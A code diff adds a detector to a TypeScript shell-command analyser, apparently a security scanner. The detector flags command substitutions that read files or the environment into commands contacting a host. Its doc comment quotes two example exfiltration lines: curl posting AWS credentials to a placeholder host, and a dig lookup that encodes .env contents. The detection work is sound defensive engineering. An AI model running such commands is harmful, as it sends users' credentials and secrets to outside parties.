@@ -94,3 +94,26 @@ export function readDynamicCode(collector: InvocationCollector, cx: EffectContex
     else emit(cx, d.invocation, 'unresolved', 'dynamic_code', d.word.text, { dynamic: true });
   }
 }
+
+/**
+ * `curl -d "$(cat ~/.aws/credentials)" https://h/`, `dig $(cat .env | base64).h.example`: what a
+ * substitution read leaves inside an argument of a command that contacts a host.
+ */
+export function readSubstitutionFlows(collector: InvocationCollector, cx: EffectContext): void {
+  for (const [seq, hosts] of cx.flow.egress) {
+    const inv = collector.invocations[seq];
+    if (inv === undefined) continue;
+    const groups = new Set<number>();
+    for (const w of inv.argv) for (const g of w.subs) groups.add(g);
+    for (const r of inv.redirects) for (const g of r.body?.subs ?? []) groups.add(g);
+    if (groups.size === 0) continue;
+    const sources: string[] = [];
+    for (const inner of collector.invocations) {
+      if (!groups.has(inner.group)) continue;
+      for (const p of cx.flow.reads.get(inner.seq) ?? []) if (!sources.includes(p)) sources.push(p);
+      if (cx.flow.envDumps.has(inner.seq) && !sources.includes('environment')) sources.push('environment');
+    }
+    for (const src of sources) for (const host of hosts) emit(cx, inv, 'file_send', 'substitution', src, host !== '' ? { host } : { dynamic: true });
+  }
+}
+
